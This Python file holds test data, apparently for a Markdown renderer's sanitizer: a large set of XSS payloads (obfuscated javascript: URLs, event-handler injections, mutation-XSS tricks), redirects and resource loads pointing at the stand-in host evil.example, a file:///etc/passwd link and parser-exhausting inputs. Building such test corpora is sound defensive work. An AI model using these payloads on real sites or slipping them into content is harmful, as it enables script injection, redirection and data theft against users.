"""Markdown by which others have had renderers run scripts, load pictures or lead readers away."""

from itertools import product

_SCRIPT = "javascript:alert(1)"
_SCHEMES = (
    _SCRIPT,
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58this;alert(1)",
    "\x01javascript:alert(1)",
    "javascript:%61lert(1)",
    "javascript://www.example.com%0Aalert(1)",
    "vbscript:alert(1)",
    "file:///etc/passwd",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:null/1",
    "https://evil.example/?q=secret",
    "//evil.example/",
    "/stop",
    "#system",
)
_PLACES = (
    "[a link]({})",
    "[a link](<{}>)",
    '[a link]({} "a title")',
    "![a picture]({})",
    "[![both]({})]({})",
    "<{}>",
    "[a reference][r]\n\n[r]: {}",
    "[a reference]\n\n[a reference]: <{}>",
    "![r]\n\n[r]: {} 'title'",
    "| a |\n| --- |\n| [link]({}) |",
    "> - [link]({})",
)

_TITLES = (
    '[a](http://a "b" onmouseover=alert(1) x=")',
    '![a](http://a"onerror="alert(1))',
    '![a"onerror="alert(1)](http://evil.example/x)',
    "![a](x 'y\"onerror=alert(1)//')",
    '[a](http://a"onclick=alert(1)//)',
    '[a"><img src=x onerror=alert(1)>](http://a)',
    "[<img src=x onerror=alert(1)>](http://a)",
    '[a]: http://a "><img src=x onerror=alert(1)>"\n\n[a]',
    "[a][<script>alert(1)</script>]\n\n[<script>alert(1)</script>]: http://a",
)

_CODE = (
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```</code></pre><script>alert(1)</script>\ncode\n```",
    "```js onclick=alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```",
    "``` __proto__\ncode\n```",
    "`</code><img src=x onerror=alert(1)>`",
    "    </pre><script>alert(1)</script>",
    "~~~" + "x" * 5000 + "\ncode\n~~~",
    "```\nnever ended <script>alert(1)</script>",
)

_BLOCKS = (
    "# <svg onload=alert(1)>",
    "<script>alert(1)</script>\n===",
    "| <img src=x onerror=alert(1)> | b |\n| :---: | ---: |\n| <b onclick=alert(1)> | `|` |",
    '| a |\n| :-:" style="x:expression(alert(1)) |\n| b |',
    "1234567890. a list\n\n0. another\n\n999999999. a third",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>\n\n<!DOCTYPE html><html><body onload=alert(1)>",
    "<div>\n\n**bold** <img src=x onerror=alert(1)>\n\n</div>",
    "<details open ontoggle=alert(1)>",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<form action="https://evil.example/"><button autofocus onfocus=alert(1)>',
    '<a href="https://evil.example/" ping="https://evil.example/">click</a>',
    '<iframe srcdoc="&lt;script>alert(1)&lt;/script>">',
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "\u202egnp.exe\u202c and \u2066isolated\u2069 \u200b\u0000\ufffd \x1b[31mred\x07",
    "constructor __proto__ [__proto__]\n\n[__proto__]: http://a\n\n[constructor]: http://b",
    "[constructor] [toString] [hasOwnProperty]",
)

_LARGE = (
    "> " * 3000 + "deep",
    "- " * 3000 + "deep",
    "*" * 4000 + "a" + "*" * 4000,
    "[" * 4000 + "a" + "](b)" * 1000,
    "![" * 3000,
    "`" * 4001,
    "<" * 4000 + "a" + ">" * 4000,
    "a" * 50000,
    "|" * 3000 + "\n" + "|-" * 3000,
    "\n".join(f"[{n}]: http://a" for n in range(2000)),
    "&" * 5000 + "&#x" * 2000,
)

MARKDOWN = [
    *(place.replace("{}", scheme) for place, scheme in product(_PLACES, _SCHEMES)),
    *_TITLES,
    *_CODE,
    *_BLOCKS,
    *_LARGE,
]

_TAGS = ("img src=x", "svg", "body", "video src=x", "iframe src=x", "input autofocus", "math", "x")
_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "OnPointerEnter")
_FORMS = (
    "<{tag} {handler}=alert(1)>",
    "<{tag}/{handler}='alert(1)'",
    "<{tag}\n{handler}\t=\talert`1`>",
    '</p><{tag} a="\'" {handler}="alert(1)"></{tag}>',
)
_CONTAINERS = ("title", "textarea", "noscript", "template", "style", "xmp", "noembed", "select")

HTML = [
    *(
        form.format(tag=tag, handler=handler)
        for form, tag, handler in product(_FORMS, _TAGS, _HANDLERS)
    ),
    *(f"<{name}><img title='</{name}><img src=x onerror=alert(1)>'>" for name in _CONTAINERS),
    *(f"<svg></{name}><{name}><img src=x onerror=alert(1)>" for name in _CONTAINERS),
]
"""Every handler in every form, and text that one parser closes where another does not."""
